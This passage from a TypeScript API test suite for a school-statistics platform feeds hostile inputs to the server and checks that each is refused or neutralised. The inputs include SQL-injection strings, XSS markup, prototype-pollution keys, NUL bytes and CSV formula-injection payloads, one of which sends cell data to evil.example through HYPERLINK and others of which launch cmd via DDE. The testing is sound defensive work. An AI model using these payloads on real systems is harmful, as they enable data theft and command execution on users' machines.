  { name: "draft: another region's assignment", req: () => draftOf(f.assignments.foreign.id, { data: { pupils_5_18: 1 } }), status: 404, code: 'assignment.not_found' },
  { name: "submit: another region's assignment", req: () => asCoordinator({ method: 'POST', url: `/api/assignments/${f.assignments.foreign.id}/submit`, payload: { data: { pupils_5_18: 1 } } }), status: 404, code: 'assignment.not_found' },
  { name: 'submit: a part greater than its whole', req: () => asCoordinator({ method: 'POST', url: `/api/assignments/${f.assignments.own.id}/submit`, payload: { data: { pupils_5_18: 1, pupils_5_18_supplementary: 2, pupils_5_18_pfdo_certificate: 0, has_school_sports_club: true } } }), status: 422, code: 'response.invalid' },
  { name: "return: another region's assignment", req: () => asAnalyst({ method: 'POST', url: `/api/assignments/${f.assignments.foreign.id}/return`, payload: { comment: 'x' } }), status: 404, code: 'assignment.not_found' },
  { name: 'return: a 1 MB comment', req: () => asAnalyst({ method: 'POST', url: `/api/assignments/${f.assignments.own.id}/return`, payload: { comment: 'x'.repeat(1_000_000) } }), status: 400, code: 'request.invalid' },
  { name: 'reopen: SQL text as the date', req: () => asAnalyst({ method: 'POST', url: `/api/assignments/${f.assignments.own.id}/reopen`, payload: { until: SQL } }), status: 400, code: 'request.invalid' },
  { name: "expected count: another region's assignment", req: () => asAnalyst({ method: 'PATCH', url: `/api/assignments/${f.assignments.foreign.id}`, payload: { expected: 1 } }), status: 404, code: 'assignment.not_found' },
  { name: 'expected count: a negative number', req: () => asAnalyst({ method: 'PATCH', url: `/api/assignments/${f.surveyAssignments.own.id}`, payload: { expected: -1 } }), status: 400, code: 'request.invalid' },
  { name: 'expected count: a string', req: () => asAnalyst({ method: 'PATCH', url: `/api/assignments/${f.surveyAssignments.own.id}`, payload: { expected: '10' } }), status: 400, code: 'request.invalid' },

  // ── forms and campaigns ──────────────────────────────────────────────────────────────────
  { name: 'publish form: 10 000 levels in the form JSON', req: () => asAnalyst(raw('POST', '/api/forms', JSON.stringify({ ...customSurvey, json: { pages: 'DEEP' } }).replace('"DEEP"', deepObject(10_000)))), status: 400, code: 'request.too_deep' },
  { name: 'publish form: a __proto__ key in the form JSON', req: () => asAnalyst(raw('POST', '/api/forms', JSON.stringify(customSurvey).replace('"locale":"ru"', '"locale":"ru","__proto__":{"x":1}'))), status: 400, code: /^request\./ },
  { name: 'publish form: for another region\'s municipality', req: () => asAnalyst({ method: 'POST', url: '/api/forms', payload: { ...customSurvey, ownerId: f.org.kalarsky.id } }), status: 404, code: 'organisation.not_found' },
  { name: "new form version: another region's form", req: () => asAnalyst({ method: 'POST', url: `/api/forms/${f.forms.foreignFormId}/versions`, payload: { json: customSurvey.json, mapping: customSurvey.mapping } }), status: 404, code: 'form.not_found' },
  { name: "generate form: another region's catalogue", req: () => asAnalyst({ method: 'POST', url: '/api/forms/generate', payload: { kind: 'self_report', catalogue: 'kalarsky', indicators: ['4.1.1'] } }), status: 404, code: 'catalogue.not_found' },
  { name: 'generate form: a SQL-looking catalogue code', req: () => asAnalyst({ method: 'POST', url: '/api/forms/generate', payload: { kind: 'self_report', catalogue: SQL, indicators: ['TAL-1'] } }), status: 400, code: 'request.invalid' },
  {
    name: "launch campaign: another region's form version", status: 404, code: 'form_version.not_found',
    req: () => asAnalyst({ method: 'POST', url: '/api/campaigns', payload: { formVersionId: f.forms.foreignVersionId, title: 'x', audience: 'parents', units: [f.org.dou1.id], period: { kind: 'school_year', label: '2026/27', start: '2026-09-01', end: '2027-08-31' }, opensAt: '2026-11-01T00:00:00Z', deadline: '2026-12-01T23:59' } }),
  },
  {
    name: "launch campaign: another region's kindergarten", status: 404, code: 'organisation.not_found',
    req: () => asAnalyst({ method: 'POST', url: '/api/campaigns', payload: { formVersionId: f.forms.ownVersionId, title: SQL, audience: 'parents', units: [f.org.kalarskyDou1.id], period: { kind: 'school_year', label: '2026/27', start: '2026-09-01', end: '2027-08-31' }, opensAt: '2026-11-01T00:00:00Z', deadline: '2026-12-01T23:59' } }),
  },
  { name: "remind: another region's campaign", req: () => asAnalyst({ method: 'POST', url: `/api/campaigns/${f.campaigns.foreignSurvey.id}/remind` }), status: 404, code: 'campaign.not_found' },
  { name: "invite: another region's assignment", req: () => asAnalyst({ method: 'POST', url: `/api/assignments/${f.surveyAssignments.foreign.id}/invitations`, payload: { emails: ['p@example.ru'] } }), status: 404, code: 'assignment.not_found' },
  { name: 'invite: SQL-looking addresses', req: () => asAnalyst({ method: 'POST', url: `/api/assignments/${f.surveyAssignments.own.id}/invitations`, payload: { emails: SQL_TEXTS } }), status: 422, code: 'invitation.bad_email' },
  { name: 'invite: a NUL byte inside an address', req: () => asAnalyst({ method: 'POST', url: `/api/assignments/${f.surveyAssignments.own.id}/invitations`, payload: { emails: [`pa${ODD.nul}rent@example.ru`] } }), status: 400, code: 'request.invalid_text' },
  { name: 'mails: SQL text as the campaign filter', req: () => asAnalyst({ url: `/api/mails?campaign=${encodeURIComponent(SQL)}` }), status: 400, code: 'request.invalid' },

  // ── imports and exports ──────────────────────────────────────────────────────────────────
  { name: 'import values: a 16 MB body (over the 15 MB limit of this route)', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: { fileName: 'big.csv', format: 'csv', content: 'x'.repeat(16 * MB) } }), status: 413, code: 'request.too_large' },
  { name: 'import values: 10 000 levels as the content', req: () => asAnalyst(raw('POST', '/api/imports/values', `{"fileName":"a.csv","format":"csv","content":${deepObject(10_000)}}`)), status: 400, code: 'request.too_deep' },
  { name: 'import values: an unknown format', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile('kalininsky-sosh1', { format: 'sql' }) }), status: 400, code: 'request.invalid' },
  { name: "import values: another region's school", req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile('kalarsky-sosh1') }), status: 422, code: 'import.invalid' },
  { name: 'import values: a SQL-looking school code and variable', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile(SQL.replace(/;/g, ''), { variable: "x'; drop table variable_values; --" }) }), status: 422, code: 'import.invalid' },
  { name: 'import values: a formula as the value', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile('kalininsky-sosh1', { value: '=1+1' }) }), status: 422, code: 'import.invalid' },
  { name: 'import values: an XLSX that is random bytes', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: { fileName: 'a.xlsx', format: 'xlsx', content: Buffer.from('not a zip at all').toString('base64') } }), status: 422, code: 'import.invalid' },
  { name: 'import values: a NUL byte in the school code', req: () => asAnalyst({ method: 'POST', url: '/api/imports/values', payload: valuesFile(`kalininsky-sosh1${ODD.nul}`) }), status: 400, code: 'request.invalid_text' },
  { name: 'export: SQL text as the format', req: () => asAnalyst({ url: `/api/exports/campaigns/${f.campaigns.ownSurvey.id}/rates?format=${encodeURIComponent(SQL)}` }), status: 400, code: 'request.invalid' },
  { name: "export: another region's campaign", req: () => asAnalyst({ url: `/api/exports/campaigns/${f.campaigns.foreignSurvey.id}/responses?format=csv` }), status: 404, code: 'campaign.not_found' },
  { name: "export: the indicator table of another region's school", req: () => asAnalyst({ url: `/api/exports/indicators?catalogue=kalininsky&period=2026%2F27&format=csv&unitId=${f.org.kalarskySosh1.id}` }), status: 404, code: 'organisation.not_found' },

  // ── reads with hostile parameters ────────────────────────────────────────────────────────
  { name: "indicator table: another region's school", req: () => asAnalyst({ url: `/api/indicator-table?catalogue=kalininsky&period=2026%2F27&unitId=${f.org.kalarskySosh1.id}` }), status: 404, code: 'organisation.not_found' },
  { name: 'indicator table: a SQL-looking catalogue', req: () => asAnalyst({ url: `/api/indicator-table?catalogue=${encodeURIComponent(SQL)}&period=2026%2F27` }), status: 400, code: 'request.invalid' },
  {
    name: 'indicator table: SQL text as the indicator list selects no indicator', req: () => asAnalyst({ url: `/api/indicator-table?catalogue=kalininsky&period=2026%2F27&indicators=${encodeURIComponent(SQL)}` }), status: 200,
    check: (res) => expect(JSON.stringify(res.json())).not.toContain('TAL-1"'),
  },
  { name: 'catalogue: a SQL-looking code', req: () => asAnalyst({ url: `/api/catalogues/${encodeURIComponent(SQL)}` }), status: 400, code: 'request.invalid' },
  { name: 'catalogue: a version that is SQL text', req: () => asAnalyst({ url: `/api/catalogues/kalininsky?version=${encodeURIComponent(SQL)}` }), status: 400, code: 'request.invalid' },
  { name: 'indicator search: SQL text finds nothing', req: () => asAnalyst({ url: `/api/indicators?q=${encodeURIComponent(SQL)}` }), status: 200, check: (res) => expect(res.json()).toEqual([]) },
  { name: "campaign: another region's campaign", req: () => asAnalyst({ url: `/api/campaigns/${f.campaigns.foreignSurvey.id}` }), status: 404, code: 'campaign.not_found' },
  { name: "report: a sibling school's report for the coordinator", req: () => asCoordinator({ url: `/api/assignments/${f.assignments.sibling.id}/report` }), status: 404, code: 'assignment.not_found' },
  { name: "QR code: another region's assignment", req: () => asAnalyst({ url: `/api/assignments/${f.surveyAssignments.foreign.id}/qr.svg` }), status: 404, code: 'assignment.not_found' },
  {
    name: 'QR sheet: markup in the class labels comes back escaped', req: () => asAnalyst({ url: `/api/assignments/${f.surveyAssignments.own.id}/qr-sheet?noprint=1&classes=${encodeURIComponent('<script>alert(1)</script>,<img src=x onerror=alert(1)>')}` }), status: 200,
    check: (res) => {
      expect(res.body).not.toContain('<script>alert(1)');
      expect(res.body).not.toContain('<img src=x');
      expect(res.body).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    },
  },
  { name: 'an unknown /api route', req: () => asAnalyst({ url: `/api/${encodeURIComponent(SQL)}` }), status: 404, code: 'route.not_found' },
];

const answersOf = async (id: string) => (await t.db.select().from(responsesTable).where(eq(responsesTable.id, id)))[0]?.data;

function expectApiError(res: LightMyRequestResponse, code?: string | RegExp) {
  expect(res.headers['content-type'], res.body.slice(0, 300)).toMatch(/^application\/json/);
  const body = res.json();
  expect(Object.keys(body), res.body.slice(0, 300)).toEqual(['error']);
  expect(body.error.code).toMatch(/^[a-z_]+(\.[a-z_]+)+$/);
  if (typeof code === 'string') expect(body.error.code).toBe(code);
  else if (code) expect(body.error.code).toMatch(code);
  expect(body.error.message).toEqual(expect.stringMatching(/\S/));
  // nothing of the internals (the inputs themselves may be echoed: they contain SQL-looking text)
  expect(res.body).not.toMatch(/DrizzleQueryError|Failed query|params: |RangeError|at .+\.(ts|js|mjs):\d+|node_modules/);
}

describe('hostile input is refused with the right 4xx and changes nothing', () => {
  let before: TableState;
  beforeAll(async () => {
    before = await databaseState(t.db);
  });

  for (const c of corpus) {
    const test = c.defect ? it.fails : it;
    const name = c.defect ? `${c.name} [known defect ${c.defect}: ${DEFECTS[c.defect]}]` : c.name;
    test(name, async () => {
      const res = await send(c.req());
      const statuses = Array.isArray(c.status) ? c.status : [c.status];
      expect(statuses, `${res.statusCode} ${res.body.slice(0, 300)}`).toContain(res.statusCode);
      if (res.statusCode >= 400 && !c.check) expectApiError(res, c.code);
      c.check?.(res);
    });
  }

  it('after the corpus the server is up and answers its health check', async () => {
    const res = await send({ url: '/api/health' });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ status: 'ok', database: { ok: true } });
    const staff = await send({ url: '/api/auth/me', headers: analyst.headers });
    expect(staff.statusCode).toBe(200);
  });

  it('after the corpus every table has the rows it had, with the same content', async () => {
    const after = await databaseState(t.db);
    expect(rowCounts(after)).toEqual(rowCounts(before));
    expect(after).toEqual(before);
    expect(Object.keys(after).length).toBeGreaterThan(10);
  });
});

describe('odd but valid text is kept verbatim, never interpreted', () => {
  it.each([...SQL_TEXTS, ODD.rtl, ODD.emoji, 'e\u0301 combining, zero\u200Bwidth, 𝔘𝔫𝔦𝔠𝔬𝔡𝔢'])('a free-text answer %j is stored exactly as sent', async (text) => {
    const id = randomUUID();
    const res = await submitPublic(t, f.codes.own, { q_sat: 1, why: text }, id);
    expect(res.statusCode, res.body).toBe(201);
    expect(await answersOf(id)).toEqual({ q_sat: 1, why: text });
  });

  it.each([...SQL_TEXTS, ODD.rtl, ODD.emoji])('an organisation named %j is created with exactly that name, and the tree is intact', async (name) => {
    const countBefore = (await t.db.select().from(organisationsTable)).length;
    const res = await send(asAnalyst({ method: 'POST', url: '/api/organisations', payload: newOrganisation({ name }) }));
    expect(res.statusCode, res.body).toBe(201);
    const [row] = await t.db.select().from(organisationsTable).where(eq(organisationsTable.id, res.json().id));
    expect(row.name).toBe(name);
    expect((await t.db.select().from(organisationsTable)).length).toBe(countBefore + 1);
  });
});

describe('exports hand answers back as text', () => {
  // typed by an anonymous parent, opened by an analyst in Excel (CWE-1236)
  const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2;"Подробнее")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"];

  it(`a free-text answer starting with = + - @ is exported to CSV as text, not as a formula`, async () => {
    for (const why of FORMULAS) expect((await submitPublic(t, f.codes.own, { q_sat: 1, why })).statusCode).toBe(201);
    const res = await send(asAnalyst({ url: `/api/exports/campaigns/${f.campaigns.ownSurvey.id}/responses?format=csv&labels=false` }));
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    for (const why of FORMULAS) expect(res.body).toContain(why.slice(1, 12));
    const cells = res.body.split('\r\n').flatMap((line) => line.split(';')).map((cell) => cell.replace(/^"/, ''));
    expect(cells.filter((cell) => /^([=+@]|-\D)/.test(cell))).toEqual([]);
  });
});

describe('defects that store data, kept apart from the unchanged-database block', () => {
  // The self-report keeps its answers in the responses row whose id is the assignment id; a
  // public answer picks its own id, so it can occupy that row before the school's first draft.
  // The school then reads the parent's answer as its draft, and its draft/submit upsert
  // overwrites the parent's row (which still belongs to the survey).
  it(`a public answer cannot take the id of a school's self-report`, async () => {
    const res = await send({ method: 'POST', url: `${pub()}/responses`, payload: { id: f.assignments.untouched.id, data: { q_sat: 5 } } });
    expect(res.statusCode, res.body).toBe(409);
    expect(await answersOf(f.assignments.untouched.id)).toBeUndefined();
  });

  it(`an anonymous caller is refused with 401 before the body is parsed or validated`, async () => {
    for (const req of [raw('POST', '/api/organisations', '{"parentId":'), { method: 'POST', url: '/api/organisations', payload: { unexpected: true } } as InjectOptions]) {
      const res = await send(req);
      expect(res.statusCode, res.body).toBe(401);
      expect(res.json().error.code).toBe('auth.required');
    }
  });
});
